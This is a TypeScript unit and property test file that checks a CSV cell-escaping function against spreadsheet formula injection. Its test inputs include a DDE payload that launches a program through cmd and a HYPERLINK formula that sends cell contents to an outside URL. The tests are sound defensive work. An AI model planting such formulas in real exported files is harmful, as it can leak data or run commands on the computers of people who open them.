import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell } from '../src/csv.ts';

/** A reader of one line after RFC 4180, written from its grammar. */
function read(line: string): string[] {
  const cells: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|$)/gy;
  for (let found = cell.exec(line); found !== null; found = cell.exec(line)) {
    cells.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
    if (found[3] === '') break;
  }
  return cells;
}

describe('cells of a table in a file', () => {
  it.each([
    '=HYPERLINK("https://example.org/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '＝1+1',
    '=1,2\n=3',
  ])('a text that a spreadsheet would compute is text: %j', (text) => {
    expect(read(csvCell(text))).toEqual([`'${text}`]);
  });

  it('numbers stay numbers, as numbers and as text', () => {
    expect([-1, 1e-300, -1.5e21, 0, true, NaN, null, undefined].map(csvCell)).toEqual(
      ['-1', '1e-300', '-1.5e+21', '0', 'true', '', '', ''], // prettier-ignore
    );
    expect(['-1', '+0.5', '-1.5e+21', '-.5', '-', '-1-1'].map(csvCell)).toEqual(
      ['-1', '+0.5', '-1.5e+21', '-.5', "'-", "'-1-1"], // prettier-ignore
    );
  });

  it('any texts come back from a line, none of them a formula', () => {
    const text = fc.oneof(fc.string({ unit: 'binary' }), fc.stringMatching(/^[=+@\-"',\r\n\t1a]*$/));
    fc.assert(
      fc.property(fc.array(text, { minLength: 1 }), (texts) => {
        const back = read(texts.map(csvCell).join(','));
        expect(back.map((cell, i) => (cell === texts[i] ? cell : cell.slice(1)))).toEqual(texts);
        for (const cell of back) expect(Number.isNaN(Number(cell)) && /^[=+@\t\r-]/.test(cell)).toBe(false);
      }),
    );
  });
});
